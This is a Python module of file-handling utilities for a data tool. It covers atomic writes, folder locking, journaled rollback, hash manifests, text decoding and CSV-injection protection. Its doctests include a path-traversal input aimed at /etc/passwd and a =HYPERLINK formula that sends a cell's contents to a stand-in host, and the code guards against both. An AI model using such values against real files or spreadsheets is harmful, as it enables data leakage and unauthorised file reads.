"""File plumbing: atomic writes, the data folder's lock, all-or-nothing replacement, manifests, CSV text.

Every file the tool writes goes through this module, so each rule below holds everywhere:

- :func:`write_atomic` writes a file through a temporary file in the same folder (flushed to disk, then renamed
  into place), keeps the permission bits of the file it replaces (else the umask's default), writes through a
  symlink to its target, writes special files (``/dev/null``, ``/dev/stdout``, a pipe) directly instead of
  renaming over them, and removes its temporary file on any failure, Ctrl-C included.
- :class:`DataLock` is the exclusive lock a writer takes on a data folder; a second writer waits up to a timeout
  and is then refused with one line (:class:`FolderBusyError`).
- :func:`replace_files` replaces several files of a folder all or nothing, with a journal: if the process dies
  between two renames, the next command that opens the folder (:func:`recover`) puts the previous files back.
- :func:`replace_folder` swaps a finished folder for an old one; :func:`write_manifest` and
  :func:`manifest_problem` record and check the hashes of what the tool wrote, so a folder is only ever replaced
  when the tool wrote it and nobody changed it since.
- :func:`decode_text`, :func:`read_text` and :func:`normalize_header` read CSV and text files: one encoding for
  the whole file (UTF-8 with or without BOM, else GB18030), a line in another encoding reported by number.

Every failure a user can cause raises :class:`~graph.errors.InputError` (or :class:`~graph.errors.DatasetError`
for text that cannot be read) with a one-line message naming the path.
"""

from __future__ import annotations

import contextlib
import errno
import os
import stat
import sys
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path

from .errors import DatasetError, InputError, Problem, message
from .lang import listing, os_reason, say

__all__ = [
    "LOCK_NAME",
    "JOURNAL_NAME",
    "MANIFEST_NAME",
    "LOCK_TIMEOUT",
    "FolderBusyError",
    "DataLock",
    "umask",
    "file_mode",
    "inside",
    "write_atomic",
    "atomic_path",
    "replace_files",
    "recover",
    "recover_if_needed",
    "replace_folder",
    "write_manifest",
    "manifest_problem",
    "decode_text",
    "read_text",
    "normalize_header",
    "FORMULA_STARTS",
    "spreadsheet_safe",
]

#: The lock file a writer holds in a data folder.
LOCK_NAME = ".practice-graph.lock"
#: The journal of a :func:`replace_files` under way; its presence means the write did not finish.
JOURNAL_NAME = ".practice-graph-journal.json"
#: The manifest of a folder the tool wrote (file -> SHA-256).
MANIFEST_NAME = ".practice-graph-manifest.json"
#: Seconds a writer waits for another writer's lock before giving up; env ``PRACTICE_GRAPH_LOCK_TIMEOUT``.
LOCK_TIMEOUT = 10.0


class FolderBusyError(InputError):
    """Another process holds the data folder's lock (a second writer is refused, exit 1)."""


# ---------------------------------------------------------------------------------------------------------------
# permissions and paths


def umask() -> int:
    """The process's umask (read without changing it for longer than one call).

    >>> 0 <= umask() <= 0o777
    True
    """
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def file_mode(path: str | os.PathLike) -> int:
    """The permission bits a file written at ``path`` gets: those of the regular file there, else the umask's.

    >>> file_mode("/no/such/file") == 0o666 & ~umask()
    True
    """
    try:
        st = os.stat(path)
    except OSError:
        return 0o666 & ~umask()
    return stat.S_IMODE(st.st_mode) if stat.S_ISREG(st.st_mode) else 0o666 & ~umask()


def inside(root: str | os.PathLike, relative: str | os.PathLike) -> Path:
    """``root / relative``, refused unless it stays inside ``root`` once ``..`` and symlinks are resolved.

    Use it for every path built from data (a source id, a file name in a review folder).

    Raises
    ------
    InputError
        The path leads outside ``root``.

    >>> str(inside("/data", "sources/a.txt"))
    '/data/sources/a.txt'
    >>> inside("/data", "sources/../../etc/passwd")
    Traceback (most recent call last):
    ...
    graph.errors.InputError: sources/../../etc/passwd leads outside /data
    """
    root = Path(root)
    path = root / relative
    real_root = os.path.realpath(root)
    real = os.path.realpath(path)
    if real != real_root and not real.startswith(real_root.rstrip(os.sep) + os.sep):
        raise InputError(say("{path} leads outside {root}", path=relative, root=root))
    return path


def _fsync_dir(folder: str | os.PathLike) -> None:
    """Flush a folder's entries to disk (best effort: not every system can open a folder)."""
    with contextlib.suppress(OSError):
        fd = os.open(folder, os.O_RDONLY)
        try:
            os.fsync(fd)
        finally:
            os.close(fd)


def _remove_quietly(path) -> None:
    with contextlib.suppress(OSError):
        os.unlink(path)


def _why(exc: OSError):
    return os_reason(exc)


# ---------------------------------------------------------------------------------------------------------------
# one file


def _stage(folder: Path, name: str, raw: bytes, mode: int) -> str:
    """Write ``raw`` to a new temporary file in ``folder``, flushed to disk with ``mode``; return its path."""
    import tempfile

    fd, tmp = tempfile.mkstemp(dir=folder, prefix=f".{name}.", suffix=".tmp")
    try:
        with os.fdopen(fd, "wb") as fh:
            fh.write(raw)
            fh.flush()
            os.fsync(fh.fileno())
            os.fchmod(fh.fileno(), mode)
    except BaseException:
        _remove_quietly(tmp)
        raise
    return tmp


def _target(path: Path) -> tuple[Path, os.stat_result | None]:
    """The file a write to ``path`` lands in (symlinks followed) and its status (None if it does not exist yet);
    a folder is refused."""
    target = Path(os.path.realpath(path))
    try:
        st = os.stat(target)
    except FileNotFoundError:
        st = None
    except OSError as exc:
        raise InputError(say("cannot write {path}: {why}", path=path, why=_why(exc))) from None
    if st is not None and stat.S_ISDIR(st.st_mode):
        raise InputError(say("cannot write {path}: it is a folder", path=path))
    return target, st


def write_atomic(
    path: str | os.PathLike, data: str | bytes, *, mode: int | None = None, encoding: str = "utf-8"
) -> Path:
    """Write ``data`` to ``path`` so that a reader sees the old file or the new one, never half of one.

    The data goes to a temporary file in the target's folder, is flushed to disk and renamed over the target.

    - A symlink is written through: its target is replaced, the link stays.
    - A special file (``/dev/null``, ``/dev/stdout``, a pipe, a terminal) is written directly, never renamed over.
    - The new file keeps the permission bits of the file it replaces, else gets the umask's default
      (``mode`` overrides both).
    - On any failure, Ctrl-C included, the temporary file is removed and the target is left as it was.

    Parameters
    ----------
    path : path
        The file to write. Its folder must exist.
    data : str or bytes
        Text is encoded with ``encoding`` (UTF-8 by default; ``"utf-8-sig"`` adds a BOM).
    mode : int, optional
        Permission bits of the new file.

    Returns
    -------
    Path
        ``path`` as given.

    Raises
    ------
    InputError
        The path is a folder, its folder does not exist, or the write fails (``/dev/full``: "No space left on
        device"); one line naming the path.

    Examples
    --------
    >>> import pathlib, tempfile
    >>> folder = pathlib.Path(tempfile.mkdtemp())
    >>> write_atomic(folder / "a.txt", "潜江").read_text(encoding="utf-8")
    '潜江'
    >>> sorted(p.name for p in folder.iterdir())
    ['a.txt']
    """
    path = Path(path)
    raw = data.encode(encoding) if isinstance(data, str) else bytes(data)
    target, st = _target(path)
    if st is not None and not stat.S_ISREG(st.st_mode):
        _write_special(path, target, raw)
        return path
    folder = target.parent
    if not folder.is_dir():
        raise InputError(say("cannot write {path}: folder {folder} does not exist", path=path, folder=path.parent))
    if mode is None:
        mode = stat.S_IMODE(st.st_mode) if st is not None else 0o666 & ~umask()
    try:
        tmp = _stage(folder, target.name, raw, mode)
    except OSError as exc:
        raise InputError(say("cannot write {path}: {why}", path=path, why=_why(exc))) from None
    try:
        os.replace(tmp, target)
    except OSError as exc:
        _remove_quietly(tmp)
        raise InputError(say("cannot write {path}: {why}", path=path, why=_why(exc))) from None
    except BaseException:
        _remove_quietly(tmp)
        raise
    _fsync_dir(folder)
    return path


@contextlib.contextmanager
def atomic_path(path: str | os.PathLike, *, mode: int | None = None) -> Iterator[Path]:
    """For writers that need a file name (pyarrow, a streamed CSV): yield the path to write the new file at.

    The rules of :func:`write_atomic` hold: the yielded path is a temporary file beside the target, renamed over
    it when the block ends without an error (flushed to disk first, with the replaced file's permissions); a
    symlink is written through; a special file (``/dev/null``) is yielded itself, to be written in place; on any
    error, Ctrl-C included, the temporary file is removed and the target left as it was.

    Raises
    ------
    InputError
        The path is a folder, its folder does not exist, or the write fails (an ``OSError`` inside the block).

    Examples
    --------
    >>> import pathlib, tempfile
    >>> target = pathlib.Path(tempfile.mkdtemp()) / "t.csv"
    >>> with atomic_path(target) as tmp:
    ...     _ = tmp.write_text("a,b\\n", encoding="utf-8")
    >>> target.read_text(encoding="utf-8")
    'a,b\\n'
    """
    import tempfile

    path = Path(path)
    target, st = _target(path)
    if st is not None and not stat.S_ISREG(st.st_mode):
        try:
            yield target
        except OSError as exc:
            raise InputError(say("cannot write {path}: {why}", path=path, why=_why(exc))) from None
        return
    if not target.parent.is_dir():
        raise InputError(say("cannot write {path}: folder {folder} does not exist", path=path, folder=path.parent))
    if mode is None:
        mode = stat.S_IMODE(st.st_mode) if st is not None else 0o666 & ~umask()
    try:
        fd, tmp = tempfile.mkstemp(dir=target.parent, prefix=f".{target.name}.", suffix=".tmp")
        os.close(fd)
    except OSError as exc:
        raise InputError(say("cannot write {path}: {why}", path=path, why=_why(exc))) from None
    try:
        yield Path(tmp)
        with open(tmp, "rb+") as fh:
            os.fsync(fh.fileno())
        os.chmod(tmp, mode)
        os.replace(tmp, target)
    except OSError as exc:
        _remove_quietly(tmp)
        raise InputError(say("cannot write {path}: {why}", path=path, why=_why(exc))) from None
    except BaseException:
        _remove_quietly(tmp)
        raise
    _fsync_dir(target.parent)


def _write_special(path: Path, target: Path, raw: bytes) -> None:
    """Write to a device, pipe or terminal in place (renaming over one would replace the device)."""
    try:
        with open(target, "wb", buffering=0) as fh:
            view = memoryview(raw)
            while view:
                written = fh.write(view)
                view = view[written:]
    except OSError as exc:
        raise InputError(say("cannot write {path}: {why}", path=path, why=_why(exc))) from None


# ---------------------------------------------------------------------------------------------------------------
# the lock of a data folder


class DataLock:
    """The exclusive lock of a data folder, held by whoever writes into it (``with DataLock(root): ...``).

    The lock is the file ``<root>/.practice-graph.lock`` locked with the operating system's file locks (the
    ``filelock`` package, Unlicense), so it is released when the process ends, however it ends. On entering, a
    write that an earlier process left unfinished is rolled back (:func:`recover`); ``recovered`` then holds the
    message saying so.

    A writer re-reads the data once it holds the lock, so it builds on what an earlier writer added.

    Parameters
    ----------
    root : path
        The data folder.
    timeout : float, optional
        Seconds to wait for another writer to finish; 0 refuses at once. Default :data:`LOCK_TIMEOUT`, or the
        environment variable ``PRACTICE_GRAPH_LOCK_TIMEOUT``.

    Raises
    ------
    FolderBusyError
        Another process still holds the lock after ``timeout`` seconds.
    InputError
        The lock file cannot be created (a read-only folder).

    Examples
    --------
    >>> import tempfile
    >>> folder = tempfile.mkdtemp()
    >>> with DataLock(folder, timeout=0):
    ...     DataLock(folder, timeout=0).__enter__()  # doctest: +ELLIPSIS
    Traceback (most recent call last):
    ...
    graph.files.FolderBusyError: ... is being written by another practice-graph process; try again when it has finished
    """

    def __init__(self, root: str | os.PathLike, timeout: float | None = None):
        self.root = Path(root)
        if timeout is None:
            env = os.environ.get("PRACTICE_GRAPH_LOCK_TIMEOUT", "")
            try:
                timeout = float(env) if env else LOCK_TIMEOUT
            except ValueError:
                timeout = LOCK_TIMEOUT
        self.timeout = max(0.0, timeout)
        self.recovered: str | None = None
        self._lock = None

    def __enter__(self) -> DataLock:
        from filelock import FileLock, Timeout

        if not self.root.is_dir():
            raise InputError(say("cannot lock {root}: folder not found", root=self.root))
        lock = FileLock(str(self.root / LOCK_NAME), timeout=self.timeout, mode=0o666 & ~umask())
        try:
            lock.acquire(timeout=self.timeout, blocking=self.timeout > 0)
        except Timeout:
            raise FolderBusyError(
                say(
                    "{root} is being written by another practice-graph process; try again when it has finished",
                    root=self.root,
                )
            ) from None
        except OSError as exc:
            raise InputError(say("cannot lock {root}: {why}", root=self.root, why=_why(exc))) from None
        self._lock = lock
        try:
            self.recovered = recover(self.root)
        except BaseException:
            lock.release()
            self._lock = None
            raise
        return self

    def __exit__(self, *exc_info) -> None:
        if self._lock is not None:
            self._lock.release()
            self._lock = None


# ---------------------------------------------------------------------------------------------------------------
# several files, all or nothing


def replace_files(
    root: str | os.PathLike,
    files: Mapping[str, str | bytes],
    *,
    modes: Mapping[str, int] | None = None,
    encoding: str = "utf-8",
) -> list[Path]:
    """Replace (or create) several files of the folder ``root`` all or nothing.

    Each new file is first written to a temporary file beside its target; the current files get a second name
    (a hard link, else a copy) as a backup; a journal listing all of them is written; then the temporary files
    are renamed over their targets, and finally the journal and the backups are removed. The journal's removal
    is the moment the new files count.

    If a rename fails, the previous files are put back at once and the error says the folder is unchanged. If
    the process dies before the journal is removed, the next :class:`DataLock` (or :func:`recover_if_needed`,
    which :func:`~graph.dataset.load_dataset` calls) puts the previous files back.

    Hold :class:`DataLock` on ``root`` around the read-modify-write this is the end of.

    Parameters
    ----------
    root : path
        The folder; every key of ``files`` must stay inside it (checked with :func:`inside`).
    files : mapping
        Relative path (``"entities.csv"``, ``"sources/new.txt"``) -> new content (text is encoded with
        ``encoding``). Missing sub-folders are created.
    modes : mapping, optional
        Permission bits per relative path; default: those of the file replaced, else the umask's.

    Returns
    -------
    list of Path
        The paths written, in the order given.

    Raises
    ------
    InputError
        A path outside ``root``, a target that is a folder, or a failed write; the message says whether the
        folder is unchanged or will be restored.

    Examples
    --------
    >>> import pathlib, tempfile
    >>> root = pathlib.Path(tempfile.mkdtemp())
    >>> _ = replace_files(root, {"a.csv": "x\\n", "sources/b.txt": "y"})
    >>> (root / "a.csv").read_text(), (root / "sources" / "b.txt").read_text()
    ('x\\n', 'y')
    >>> sorted(p.name for p in root.iterdir())
    ['a.csv', 'sources']
    """
    import json
    import shutil
    import tempfile

    root = Path(root)
    modes = dict(modes or {})
    entries: list[dict] = []
    targets: list[Path] = []
    try:
        for rel, data in files.items():
            target = inside(root, rel)
            if target.is_dir():
                raise InputError(say("cannot write {path}: it is a folder", path=target))
            target.parent.mkdir(parents=True, exist_ok=True)
            raw = data.encode(encoding) if isinstance(data, str) else bytes(data)
            mode = modes.get(rel, file_mode(target))
            staged = _stage(target.parent, target.name, raw, mode)
            entry = {"target": str(rel), "staged": os.path.relpath(staged, root), "backup": None}
            entries.append(entry)
            targets.append(target)
            if target.exists():
                fd, backup = tempfile.mkstemp(dir=target.parent, prefix=f".{target.name}.", suffix=".bak")
                os.close(fd)
                entry["backup"] = os.path.relpath(backup, root)
                try:
                    os.unlink(backup)
                    os.link(target, backup)
                except OSError:
                    shutil.copy2(target, backup)
        journal = {"written_by": "practice-graph", "entries": entries}
        write_atomic(root / JOURNAL_NAME, json.dumps(journal, ensure_ascii=False, indent=1) + "\n")
    except OSError as exc:
        _discard(root, entries)
        raise InputError(say("cannot write to {root}: {why}; nothing was changed", root=root, why=_why(exc))) from None
    except BaseException:
        _discard(root, entries)
        raise
    try:
        for entry, target in zip(entries, targets, strict=True):
            os.replace(root / entry["staged"], target)
        for folder in {t.parent for t in targets}:
            _fsync_dir(folder)
        os.unlink(root / JOURNAL_NAME)
        _fsync_dir(root)
    except BaseException as exc:
        try:
            recover(root)
        except OSError as again:
            raise InputError(
                say(
                    "cannot write to {root}: {why}; the folder is half-written and the previous files will be "
                    "put back by the next practice-graph command that opens it (journal {journal})",
                    root=root,
                    why=_why(again),
                    journal=root / JOURNAL_NAME,
                )
            ) from None
        if isinstance(exc, OSError):
            where = getattr(exc, "filename", None) or root
            raise InputError(
                say(
                    "cannot write {path}: {why}; {root} is unchanged (previous files restored)",
                    path=where,
                    why=_why(exc),
                    root=root,
                )
            ) from None
        raise
    for entry in entries:
        if entry["backup"]:
            _remove_quietly(root / entry["backup"])
    return targets


def _discard(root: Path, entries: list[dict]) -> None:
    """Remove the temporary and backup files of a replacement that never started renaming."""
    for entry in entries:
        _remove_quietly(root / entry["staged"])
        if entry["backup"]:
            _remove_quietly(root / entry["backup"])
    _remove_quietly(root / JOURNAL_NAME)


def recover(root: str | os.PathLike) -> str | None:
    """Roll back a :func:`replace_files` that did not finish; return a message saying so, or None.

    Each file named in the journal gets its backup back (a file that did not exist before is removed), the
    temporary files are removed, and the journal last. Call it holding :class:`DataLock` (which does).
    """
    import json

    root = Path(root)
    journal_path = root / JOURNAL_NAME
    try:
        journal = json.loads(journal_path.read_text(encoding="utf-8"))
        entries = journal["entries"]
    except FileNotFoundError:
        return None
    except (OSError, ValueError, KeyError, TypeError) as exc:
        why = _why(exc) if isinstance(exc, OSError) else exc
        raise InputError(
            say("cannot read the journal {journal} of an interrupted write: {why}", journal=journal_path, why=why)
        ) from None
    for entry in entries:
        target = inside(root, entry["target"])
        staged = inside(root, entry["staged"])
        if entry.get("backup"):
            backup = inside(root, entry["backup"])
            if backup.exists():
                if target.exists() and os.path.samefile(backup, target):
                    os.unlink(backup)  # never renamed over: renaming a hard link onto its twin does nothing
                else:
                    os.replace(backup, target)
        elif target.exists() and not staged.exists():
            # a file that did not exist before: it was renamed into place, take it out again
            os.unlink(target)
        _remove_quietly(staged)
    os.unlink(journal_path)
    _fsync_dir(root)
    names = listing(e["target"] for e in entries)
    return say(
        "{root}: an earlier write was interrupted; its files ({names}) were put back as they were before it",
        root=root,
        names=names,
    )


def recover_if_needed(root: str | os.PathLike) -> str | None:
    """When ``root`` holds the journal of an interrupted write, take the lock and roll it back (else do nothing).

    Raises
    ------
    DatasetError
        The folder cannot be restored (no write permission): one problem naming the journal.
    """
    root = Path(root)
    if not (root / JOURNAL_NAME).exists():
        return None
    try:
        with DataLock(root) as lock:
            return lock.recovered
    except InputError as exc:
        raise DatasetError(
            [
                Problem(
                    str(root / JOURNAL_NAME),
                    0,
                    say(
                        "an interrupted write left this folder half-written and it cannot be restored now ({why}); "
                        "run practice-graph again with write access to the folder",
                        why=message(exc),
                    ),
                )
            ]
        ) from None


# ---------------------------------------------------------------------------------------------------------------
# whole folders


def _exchange(a: Path, b: Path) -> bool:
    """Swap two directory entries in one step (Linux ``renameat2(RENAME_EXCHANGE)``); False where unsupported."""
    if sys.platform != "linux":
        return False
    import ctypes

    try:
        libc = ctypes.CDLL(None, use_errno=True)
        renameat2 = libc.renameat2
    except (OSError, AttributeError):
        return False
    at_fdcwd, rename_exchange = -100, 2
    renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
    if renameat2(at_fdcwd, os.fsencode(a), at_fdcwd, os.fsencode(b), rename_exchange) == 0:
        return True
    err = ctypes.get_errno()
    if err in (errno.EINVAL, errno.ENOSYS, errno.EOPNOTSUPP, errno.EPERM):
        return False
    raise OSError(err, os.strerror(err), str(b))


def replace_folder(new: str | os.PathLike, target: str | os.PathLike) -> None:
    """Put the finished folder ``new`` where ``target`` is (created or replaced), and delete the old one.

    Where the system can (Linux), the two folders swap names in one step, so ``target`` is at every moment the
    whole old folder or the whole new one. Elsewhere the old folder is renamed aside first and renamed back if
    the second rename fails. Check with :func:`manifest_problem` that ``target`` may be replaced before calling.

    Raises
    ------
    OSError
        The rename failed; ``target`` is as it was.
    """
    import shutil
    import tempfile

    new, target = Path(new), Path(target)
    if not target.exists():
        os.replace(new, target)
        _fsync_dir(target.parent)
        return
    if _exchange(new, target):
        _fsync_dir(target.parent)
        shutil.rmtree(new, ignore_errors=True)
        return
    old = Path(tempfile.mkdtemp(dir=target.parent, prefix=f".{target.name}.old."))
    os.rmdir(old)
    os.replace(target, old)
    try:
        os.replace(new, target)
    except BaseException:
        os.replace(old, target)
        raise
    _fsync_dir(target.parent)
    shutil.rmtree(old, ignore_errors=True)


def _sha256(path: Path) -> str:
    import hashlib

    digest = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()


def _folder_files(folder: Path) -> tuple[dict[str, Path], list[str]]:
    """Regular files under ``folder`` by relative POSIX path, and the entries that are neither file nor folder."""
    files: dict[str, Path] = {}
    other: list[str] = []
    for dirpath, dirnames, filenames in os.walk(folder, followlinks=False):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = path.relative_to(folder).as_posix()
            if path.is_symlink():
                other.append(rel)
            elif name in filenames:
                if path.is_file():
                    files[rel] = path
                else:
                    other.append(rel)
    return files, other


def write_manifest(folder: str | os.PathLike) -> Path:
    """Record the SHA-256 of every file under ``folder`` in ``<folder>/.practice-graph-manifest.json``.

    Write it last, into the finished folder, before the folder is put in place.

    >>> import pathlib, tempfile
    >>> folder = pathlib.Path(tempfile.mkdtemp())
    >>> _ = (folder / "a.csv").write_text("x")
    >>> _ = write_manifest(folder)
    >>> manifest_problem(folder) is None
    True
    """
    import json

    folder = Path(folder)
    files, _ = _folder_files(folder)
    hashes = {rel: _sha256(path) for rel, path in sorted(files.items()) if rel != MANIFEST_NAME}
    manifest = {"written_by": "practice-graph", "files": hashes}
    return write_atomic(folder / MANIFEST_NAME, json.dumps(manifest, ensure_ascii=False, indent=1) + "\n")


def manifest_problem(folder: str | os.PathLike) -> str | None:
    """Why ``folder`` may not be replaced, or None when it is empty or holds exactly what the tool wrote there.

    The folder must hold a manifest (:func:`write_manifest`) and nothing but the files it lists, each with the
    hash it lists: a file added, removed or edited by hand makes the folder the user's.

    >>> import pathlib, tempfile
    >>> folder = pathlib.Path(tempfile.mkdtemp())
    >>> _ = (folder / "entities.csv").write_text("x")
    >>> manifest_problem(folder)
    'it holds files practice-graph did not write (no .practice-graph-manifest.json)'
    >>> _ = write_manifest(folder)
    >>> _ = (folder / "entities.csv").write_text("y")
    >>> manifest_problem(folder)
    'entities.csv was changed since practice-graph wrote it'
    """
    import json

    folder = Path(folder)
    files, other = _folder_files(folder)
    if not files and not other:
        return None
    if other:
        return say("it holds {name}, which is not a regular file practice-graph wrote", name=other[0])
    if MANIFEST_NAME not in files:
        return say("it holds files practice-graph did not write (no {manifest})", manifest=MANIFEST_NAME)
    try:
        listed = json.loads(files[MANIFEST_NAME].read_text(encoding="utf-8"))["files"]
        if not isinstance(listed, dict):
            raise TypeError
    except (OSError, ValueError, KeyError, TypeError):
        return say("its {manifest} cannot be read", manifest=MANIFEST_NAME)
    for rel in sorted(files):
        if rel == MANIFEST_NAME:
            continue
        if rel not in listed:
            return say("{name} was added after practice-graph wrote the folder", name=rel)
        if _sha256(files[rel]) != listed[rel]:
            return say("{name} was changed since practice-graph wrote it", name=rel)
    for rel in sorted(listed):
        if rel not in files:
            return say("{name} was removed since practice-graph wrote the folder", name=rel)
    return None


# ---------------------------------------------------------------------------------------------------------------
# reading text


def _utf8_line(line: bytes) -> bool:
    try:
        line.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def decode_text(raw: bytes) -> str:
    """Decode a whole file as one encoding: UTF-8 (with or without BOM), else GB18030; line ends become ``\\n``.

    The encoding is decided for the whole file: UTF-8 when it starts with a BOM or every line decodes as UTF-8,
    GB18030 when no line with non-ASCII bytes does. A file that mixes them (a UTF-8 line pasted into a GB18030
    file) raises :class:`UnicodeDecodeError` whose ``start`` is the first byte of the first line in the minority
    encoding, so the line number reported is that line's.

    >>> decode_text("潜江".encode("gb18030"))
    '潜江'
    >>> decode_text(b"\\xef\\xbb\\xbfa\\r\\nb")
    'a\\nb'
    >>> try:
    ...     decode_text("甲,1\\n".encode("gb18030") * 3 + "乙,2\\n".encode("utf-8"))
    ... except UnicodeDecodeError as exc:
    ...     print(exc.start, exc.reason)
    15 the file is GB18030, but this line is UTF-8: save the file in one encoding
    """
    if raw.startswith(b"\xef\xbb\xbf"):
        text = raw.decode("utf-8-sig")  # an undecodable byte raises, at its own position
    else:
        try:
            text = raw.decode("utf-8")
        except UnicodeDecodeError:
            text = _decode_gb18030(raw)
    # looking for a "\r" is much faster than replacing none in a long text
    return text.replace("\r\n", "\n").replace("\r", "\n") if "\r" in text else text


def _decode_gb18030(raw: bytes) -> str:
    offset = 0
    utf8_lines, other_lines = [], []
    for line in raw.splitlines(keepends=True):
        if not line.isascii():
            (utf8_lines if _utf8_line(line) else other_lines).append((offset, line))
        offset += len(line)
    if utf8_lines and len(utf8_lines) >= len(other_lines):
        # mostly UTF-8: the lines that are not are the mistake
        start, line = other_lines[0]
        try:
            line.decode("utf-8")
        except UnicodeDecodeError as exc:
            start += exc.start
        reason = "the file is UTF-8, but this line is not (GB18030?): save the file in one encoding"
        raise UnicodeDecodeError("utf-8", raw, start, start + 1, reason)
    if utf8_lines:
        start, _ = utf8_lines[0]
        reason = "the file is GB18030, but this line is UTF-8: save the file in one encoding"
        raise UnicodeDecodeError("gb18030", raw, start, start + 1, reason)
    return raw.decode("gb18030")  # an undecodable byte raises, at its own position


def read_text(path: str | os.PathLike) -> str:
    """Read a text file with :func:`decode_text`.

    Raises
    ------
    DatasetError
        One problem naming the file and the line that does not decode, or why the file cannot be read.
    """
    path = Path(path)
    try:
        raw = path.read_bytes()
    except OSError as exc:
        raise DatasetError([Problem(str(path), 0, say("cannot read: {why}", why=_why(exc)))]) from None
    try:
        return decode_text(raw)
    except UnicodeDecodeError as exc:
        line = raw[: exc.start].count(b"\n") + 1
        if exc.reason.startswith("the file is"):
            why = say(exc.reason)
        else:
            why = say(
                "not UTF-8 or GB18030 text: cannot decode byte(s) {bytes}", bytes=raw[exc.start : exc.end].hex(" ")
            )
        raise DatasetError([Problem(str(path), line, why)]) from None


def normalize_header(cells: Iterable[str]) -> list[str]:
    """A CSV header as the tool reads it: each name stripped of spaces and a BOM, lower-cased.

    >>> normalize_header(["\\ufeffId ", " NAME"])
    ['id', 'name']
    """
    return [c.strip().lstrip("\ufeff").strip().lower() for c in cells]


#: What starts a formula in Excel, LibreOffice and Google Sheets (OWASP's list for CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """Text a spreadsheet shows as text: a cell that would start a formula gets a leading ``'`` (OWASP's rule).

    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/?"&B2,"潜江")'))
    '=HYPERLINK("http://x.example/?"&B2,"潜江")
    >>> spreadsheet_safe("潜江市"), spreadsheet_safe("-")
    ('潜江市', "'-")
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text
